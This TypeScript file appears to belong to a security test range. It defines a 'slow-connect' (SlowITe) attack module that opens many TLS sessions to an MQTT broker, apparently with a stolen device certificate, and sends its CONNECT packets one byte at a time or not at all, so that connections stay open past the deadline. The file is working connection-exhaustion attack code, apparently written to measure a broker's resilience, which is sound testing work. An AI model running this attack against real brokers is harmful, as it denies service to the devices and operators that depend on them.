import type { Attack } from './attack.ts'
import { connect } from './packets.ts'

const SILENT = 8
const DRIPPING = 8
const DRIP = 500
/** Still open after the deadline and half of it again counts as held. */
const HELD = 1.5

/**
 * SlowITe: finishes TLS with a stolen certificate, then sends its CONNECT byte by byte or not at all. Effect: connections
 * that are still open at one and a half times the deadline.
 */
export const slowConnect: Attack = {
  name: 'slow-connect',
  technique: 'T0814',
  title: 'Hold connections with a CONNECT that never ends',
  expected: 'floor',
  alone: false,
  seconds: limits => limits.connectSeconds * HELD + 1.5,
  async run(range) {
    await range.proveAccess()
    const hello = connect({
      version: 4,
      clientId: range.device,
      will: { topic: range.topic(range.device, 'status'), payload: 'x'.repeat(1000) },
    })
    const dialled = await Promise.all(Array.from({ length: SILENT + DRIPPING }, () => range.dial().catch(() => null)))
    const sessions = dialled.filter(session => session !== null)
    const end = performance.now() + range.limits.connectSeconds * HELD * 1000
    for (let at = 0; performance.now() < end; at += 1) {
      sessions.slice(SILENT).forEach(session => {
        session.send(hello.subarray(at, at + 1))
      })
      await range.sleep(Math.min(DRIP, Math.max(1, end - performance.now())))
    }
    const effect = sessions.filter(session => !session.closed).length
    const seconds = range.limits.connectSeconds * HELD
    const detail = `${effect} of ${sessions.length} connections held for more than ${seconds} s without a CONNECT`
    return { attempts: SILENT + DRIPPING, effect, detail }
  },
}
